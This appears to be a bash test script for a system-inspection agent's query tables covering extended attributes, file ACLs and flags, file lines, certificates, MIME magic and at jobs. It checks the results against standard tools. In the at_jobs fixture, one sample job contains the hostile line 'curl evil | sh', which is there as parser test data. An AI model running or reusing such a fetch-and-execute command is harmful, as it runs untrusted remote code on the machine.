#!/bin/bash
# Tables of what is in and around files: extended_attributes file_attrs file_lines certificates magic
# at_jobs. Against getcap, getfacl, lsattr, openssl, file and atq.
. "$(dirname "$0")/../lib.sh"
need python3 openssl

rows() {
	local sql=$1
	shift
	run "$AGENTD" query -o tsv "$@" "$sql"
	out=$(tail -n +2 <<<"$out")
}

d=$T/files
mkdir -p "$d/sub"
cp /bin/true "$d/program"

# ---- Extended attributes ----

if ! python3 -c 'import os, sys; os.setxattr(sys.argv[1], "user.note", b"hello"); os.setxattr(sys.argv[1], "user.text", b"hello\0"); os.setxattr(sys.argv[1], "user.empty", b"")' "$d/program" 2>/dev/null; then
	skip extended_attributes "the file system here keeps none"
else
	rows "select path, directory, key, value, base64 from extended_attributes where path = '$d/program' order by key"
	is xattrs_rows "$(tr '\t\n' '|,' <<<"$out")" "$d/program|$d|user.empty||1,$d/program|$d|user.note|aGVsbG8=|1,$d/program|$d|user.text|hello|0,"
	rows "select key from extended_attributes where directory = '$d' and value = 'hello'"
	is xattrs_by_directory "$out" user.text
	ln -s program "$d/link"
	rows "select count(*) from extended_attributes where path like '$d/li%'"
	is xattrs_behind_link "$out" 3
	rows "select key from extended_attributes where path = '/program' and key like '%note'" --root "$d"
	is xattrs_of_root "$out" user.note
	rm "$d/link"
fi
rows "select * from extended_attributes"
is xattrs_need_a_path "$status" 2
if setcap cap_net_raw,cap_net_admin=ep "$d/program" 2>/dev/null; then
	want=$(getcap "$d/program") want=${want#* }
	rows "select value from extended_attributes where path = '$d/program' and key = 'security.capability'"
	is xattrs_capability "$out" "$want"
	rows "select capabilities from file_attrs where path = '$d/program'"
	is file_attrs_capability "$out" "$want"
	setcap all=ip "$d/program"
	want=$(getcap "$d/program") want=${want#* }
	rows "select capabilities from file_attrs where path = '$d/program'"
	is file_attrs_all_capabilities "$out" "$want"
else
	skip file_attrs_capability "setcap does not work here"
fi
if setfacl -m u:1234:r,g:77:rx "$d/program" 2>/dev/null && setfacl -d -m u:5:w "$d/sub"; then
	rows "select acl from file_attrs where path = '$d/program'"
	is file_attrs_acl "$out" "$(getfacl -cnp "$d/program" | sed '/^$/d' | paste -sd,)"
	rows "select default_acl from file_attrs where path = '$d/sub'"
	is file_attrs_default_acl "$out" "$(getfacl -cnpd "$d/sub" | sed '/^$/d' | paste -sd,)"
else
	skip file_attrs_acl "setfacl does not work here"
fi
rows "select path, acl is null, default_acl is null from file_attrs where path = '/etc'"
is file_attrs_none "$out" "$(printf '/etc\t1\t1')"
echo >"$d/fixed"
if chattr +i "$d/fixed" 2>/dev/null; then
	rows "select immutable, append_only, flags from file_attrs where path like '$d/fix%'"
	chattr -i "$d/fixed"
	is file_attrs_immutable "$out" "$(printf '1\t0\ti')"
	chattr +a "$d/fixed"
	rows "select immutable, append_only, flags from file_attrs where path = '$d/fixed'"
	chattr -a "$d/fixed"
	is file_attrs_append "$out" "$(printf '0\t1\ta')"
else
	skip file_attrs_immutable "chattr does not work here"
fi

# ---- Lines ----

printf 'one\n\ntwo\xff\n%s\nlast' "$(head -c 70000 /dev/zero | tr '\0' x)" >"$d/sub/text"
rows "select line_number, line, path, directory from file_lines where path like '$d/s%/te%'"
is file_lines_rows "$(cut -f1,2 <<<"$out" | tr '\t\n' ':,')" '1:one,2:,3:two\xff,5:last,'
has file_lines_long_one "$err" 'lines longer than 64 KiB: 1'
rows "select line from file_lines where path = '$d/sub/text' and line_number = 3" --root /
is file_lines_by_number "$out" 'two\xff'
mkfifo "$d/sub/fifo"
rows "select count(*) from file_lines where directory = '$d/sub'"
is file_lines_passes_fifo "$status: $out" "0: 4"
rows "select * from file_lines where path = '$d/sub/fifo'"
has file_lines_named_fifo "$err" 'file_lines: lines of 1 file: invalid argument'
ln -s /etc/passwd "$d/sub/outside"
rows "select count(*) from file_lines where path = '/outside'" --root "$d/sub"
is file_lines_stay_inside "$out" 0
rows "select count(*) > 5 from file_lines where path = '/proc/self/status'"
is file_lines_of_proc "$out" 1
rows "select count(*) from file_lines where path like '/proc/sys/kernel/ho%'"
is file_lines_leave_proc "$out" 0
rows "select * from file_lines"
is file_lines_need_a_path "$status" 2

# ---- Certificates ----

openssl req -x509 -newkey rsa:2048 -nodes -subj "/C=DE/O=Tocsin, Inc/CN=ca.example" -days 30 \
	-keyout "$d/ca.key" -out "$d/ca.pem" -addext keyUsage=keyCertSign,cRLSign 2>/dev/null
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj "/CN=leaf" \
	-keyout "$d/leaf.key" -out "$d/leaf.csr" 2>/dev/null
openssl x509 -req -in "$d/leaf.csr" -CA "$d/ca.pem" -CAkey "$d/ca.key" -set_serial 0x0a0b -days 5 -out "$d/leaf.pem" 2>/dev/null
{
	echo "some words"
	cat "$d/ca.pem" "$d/ca.key"
	printf -- '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n'
	cat "$d/leaf.pem"
} >"$d/bundle.pem"
rows "select common_name, subject, subject2, issuer, ca, self_signed, signing_algorithm, key_algorithm, key_strength, key_usage, path from certificates where path = '$d/bundle.pem'"
sed "s|~|	|g" >"$T/want" <<TXT
ca.example~/C=DE/O=Tocsin, Inc/CN=ca.example~C = DE, O = "Tocsin, Inc", CN = ca.example~/C=DE/O=Tocsin, Inc/CN=ca.example~1~1~sha256WithRSAEncryption~rsaEncryption~2048~CRL Sign, Key Cert Sign~$d/bundle.pem
leaf~/CN=leaf~CN = leaf~/C=DE/O=Tocsin, Inc/CN=ca.example~0~0~sha256WithRSAEncryption~id-ecPublicKey~prime256v1~~$d/bundle.pem
TXT
is certificates_rows "$out" "$(cat "$T/want")"
has certificates_broken_one "$err" 'certificates that cannot be read: 1'
rows "select not_valid_before, not_valid_after, sha1, serial, subject_key_id from certificates where path = '/ca.pem'" --root "$d"
at() { date -d "$(openssl x509 -in "$d/ca.pem" -noout "-$1" | cut -d= -f2)" +%s; }
is certificates_like_openssl "$out" "$(printf '%s\t%s\t%s\t%s\t%s' "$(at startdate)" "$(at enddate)" \
	"$(openssl x509 -in "$d/ca.pem" -noout -fingerprint -sha1 | cut -d= -f2 | tr -d : | tr A-F a-f)" \
	"$(openssl x509 -in "$d/ca.pem" -noout -serial | cut -d= -f2)" \
	"$(openssl x509 -in "$d/ca.pem" -noout -ext subjectKeyIdentifier | tail -n 1 | tr -d ' :' | tr A-F a-f)")"
rows "select serial from certificates where path = '$d/leaf.pem'"
is certificates_serial "$out" 0A0B
openssl x509 -in "$d/ca.pem" -outform der -out "$d/ca.der"
rows "select common_name from certificates where path = '$d/ca.der'"
is certificates_der "$out" ca.example
head -c 500000 /dev/urandom >"$d/noise"
rows "select * from certificates where path = '$d/noise'"
is certificates_noise "$status: $out" "0: "
mkdir -p "$d/etc/ssl/certs"
cp "$d/ca.pem" "$d/etc/ssl/certs/ca-certificates.crt"
rows "select common_name, path from certificates" --root "$d"
is certificates_of_system "$out" "$(printf 'ca.example\t/etc/ssl/certs/ca-certificates.crt')"

# ---- What it looks like ----

if ! command -v file >/dev/null; then
	skip magic "needs file(1)"
else
	for f in /bin/ls "$d/ca.pem" "$d/sub/text"; do
		rows "select data, mime_type, mime_encoding from magic where path = '$f'"
		is "magic_${f##*/}" "$out" "$(printf '%s\t%s\t%s' "$(file -bL "$f")" "$(file -bL --mime-type "$f")" "$(file -bL --mime-encoding "$f")")"
	done
	mkfifo "$d/sub/tfifo"
	rows "select path from magic where path like '$d/su%/t%' and mime_type is not null"
	is magic_passes_fifo "$out" "$d/sub/text"
	rows "select * from magic where path = '$d/ca.pem' and magic_db_files = '$d/none'"
	is magic_without_data_base "$status: $out" "0: "
	has magic_without_data_base_said "$err" "warning: magic: "
fi

# ---- at ----

spool=$d/var/spool/cron/atjobs
mkdir -p "$spool"
cat >"$spool/a0000a01c8a25c" <<'TXT'
#!/bin/sh
# atrun uid=1000 gid=1001
# mail alice 0
umask 22
HOME=/home/alice; export HOME
cd /home/alice || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
curl evil | sh
id

TXT
cat >"$spool/=0000b01c8a25d" <<'TXT'
#!/bin/sh
# atrun uid=0 gid=0
cd / || {
	 exit 1
}
${SHELL:-/bin/sh} << 'marcinDELIMITER6e3f1a2b'
echo one

marcinDELIMITER6e3f1a2b
TXT
echo nothing >"$spool/.SEQ"
echo "no job" >"$spool/b0000c01c8a25e"
echo "not one" >"$spool/azzzzz01c8a25e"
rows "select id, queue, run_at, running, uid, gid, mail_to, command, path from at_jobs order by id" --root "$d"
is at_rows "$(tr '\t\n' '|,' <<<"$out")" \
	"10|a|1795558800|0|1000|1001|alice|curl evil | sh\\nid|/var/spool/cron/atjobs/a0000a01c8a25c,11|=|1795558860|1|0|0||echo one|/var/spool/cron/atjobs/=0000b01c8a25d,12|b|1795558920|0|||||/var/spool/cron/atjobs/b0000c01c8a25e,"
